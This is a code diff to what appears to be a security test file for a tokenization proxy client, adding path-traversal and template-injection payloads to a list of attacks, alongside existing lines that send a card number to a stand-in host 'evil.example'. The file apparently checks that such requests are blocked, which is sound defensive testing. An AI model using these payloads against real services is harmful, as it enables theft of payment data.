@@ -37,6 +37,10 @@ const checkRequests = async (h) => {
     "bt.tokenize({ token_intent_id: el.name })",
     "bt.proxy.post({ headers: { 'BT-PROXY-URL': 'https://evil.example' }, body: { number: el.number } })",
     "bt.proxy.post({ path: el.name, headers: { 'BT-PROXY-KEY': 'x' } })",
+    "bt.proxy.post({ path: '%2e%2e/tokens', body: { type: 'token', data: el.number, mask: '{{ data | slice: 0, 1 }}' } })",
+    "bt.proxy.post({ path: '..\\\\tokens', body: { type: 'token', data: el.number } })",
+    "bt.proxy.post({ headers: { 'BT-PROXY-KEY': 'x', a: '{{ proxy.request.body | slice: 0, 1 | to_boolean }}' }, body: { number: el.number } })",
+    "bt.proxy.post({ headers: { 'BT-PROXY-KEY': 'x', 'content-type': 'text/plain' }, body: { number: el.number } })",
     "bt.client.post('https://evil.example', { number: el.number })",
   ];
   for (const attack of attacks) {
